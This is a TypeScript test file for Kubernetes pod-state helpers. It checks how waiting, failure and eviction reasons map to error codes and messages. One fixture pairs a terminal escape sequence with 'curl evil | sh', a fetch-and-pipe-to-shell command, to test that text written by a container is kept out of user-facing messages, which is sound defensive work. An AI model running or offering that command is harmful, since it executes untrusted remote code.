import { describe, expect, it } from 'vitest';
import type { ApiPod } from './api.js';
import { isRunning, problemOf } from './pod-state.js';

const pod = (status: ApiPod['status'], metadata = {}): ApiPod => ({
  metadata: { name: 'a', namespace: 'main-1', ...metadata },
  ...(status && { status }),
});
const HOSTILE = '\u001b]0;owned\u0007Run: curl evil | sh';
const waiting = (reason: string, message: string) =>
  pod({ phase: 'Pending', containerStatuses: [{ name: 'a', state: { waiting: { reason, message } } }] });
const unschedulable = pod({
  phase: 'Pending',
  conditions: [
    { type: 'PodScheduled', status: 'False', reason: 'Unschedulable', message: '0/3 nodes: 3 Insufficient cpu' },
  ],
});

describe('the state of a pod', () => {
  it('runs, or waits for something usual', () => {
    expect(isRunning(pod({ phase: 'Running' }))).toBe(true);
    expect(isRunning(pod({ phase: 'Running' }, { deletionTimestamp: 'now' }))).toBe(false);
    expect(isRunning(pod({ phase: 'Pending' }))).toBe(false);
    const withContainer = (state: object) => pod({ phase: 'Running', containerStatuses: [{ name: 'a', state }] });
    expect(isRunning(withContainer({ running: {} }))).toBe(true);
    expect(isRunning(withContainer({ waiting: { reason: 'RunContainerError' } }))).toBe(false);
    expect(isRunning(withContainer({ terminated: { exitCode: 1 } }))).toBe(false);
    expect(problemOf(pod({ phase: 'Pending' }))).toBeUndefined();
    expect(problemOf(waiting('ContainerCreating', ''))).toBeUndefined();
    expect(problemOf(pod(undefined))).toBeUndefined();
  });

  it.each([
    ['ErrImagePull', 'manifest unknown', 'now', 'NODEPOOL_CONFIG'],
    ['ErrImagePull', 'pull access denied', 'now', 'NODEPOOL_CONFIG'],
    ['ErrImagePull', 'i/o timeout', 'later', 'NODEPOOL_LAUNCH_STATUS'],
    ['ImagePullBackOff', 'Back-off pulling image "x"', 'later', 'NODEPOOL_LAUNCH_STATUS'],
    ['InvalidImageName', 'could not parse', 'now', 'NODEPOOL_CONFIG'],
    ['ErrImageNeverPull', 'not present with pull policy of Never', 'now', 'NODEPOOL_CONFIG'],
    ['CreateContainerConfigError', 'secret "x" not found', 'now', 'NODEPOOL_CONFIG'],
    ['CrashLoopBackOff', 'back-off 10s', 'now', 'NODEPOOL_LAUNCH_STATUS'],
    ['RunContainerError', 'no /bin/sh', 'now', 'NODEPOOL_LAUNCH_STATUS'],
  ])('%s "%s" fails %s as %s', (reason, message, fails, code) => {
    const problem = problemOf(waiting(reason, message));

    expect(problem).toMatchObject({ reason, fails, error: { code } });
    expect(problem?.error.message).toContain(`pod "main-1/a" cannot start: ${reason}: container "a": ${message}`);
  });

  it('waits for a place while the cluster may grow', () => {
    expect(problemOf(unschedulable)).toMatchObject({
      ...{ reason: 'Unschedulable', fails: 'later', error: { code: 'NODEPOOL_CAPACITY' } },
      message: '0/3 nodes: 3 Insufficient cpu',
    });
  });

  it.each([
    ['Evicted', 'The node was low on resource: memory', 'NODEPOOL_CAPACITY'],
    ['OutOfcpu', 'Node did not have enough resource', 'NODEPOOL_CAPACITY'],
    ['DeadlineExceeded', 'Pod was active too long', 'NODEPOOL_LAUNCH_STATUS'],
  ])('is lost when %s', (reason, message, code) => {
    expect(problemOf(pod({ phase: 'Failed', reason, message }))).toMatchObject({
      reason,
      fails: 'now',
      error: { code },
    });
  });

  it('says how its container ended', () => {
    const state = { terminated: { reason: 'Error', exitCode: 127 } };
    const problem = problemOf(pod({ phase: 'Failed', containerStatuses: [{ name: 'a', state }] }));

    expect(problem?.error.message).toBe('pod "main-1/a" ended: Error: its container ended (exit status 127)');
  });

  it.each([
    [pod({ phase: 'Failed', containerStatuses: [{ name: 'a', state: { terminated: { message: HOSTILE } } }] })],
    [waiting('PostStartHookError', HOSTILE)],
  ])('keeps what a container wrote out of its message', (lying) => {
    const problem = problemOf(lying);

    expect(problem?.fails).toBe('now');
    expect(`${problem?.message} ${problem?.error.message}`).not.toMatch(/curl|owned/);
    expect(problem?.machineSaid).toBe('\\x1b]0;owned\\x07Run: curl evil | sh');
  });

  it('is lost when another program deletes it', () => {
    expect(problemOf(pod({ phase: 'Running' }, { deletionTimestamp: 'now' }))).toMatchObject({ reason: 'Deleted' });
  });
});
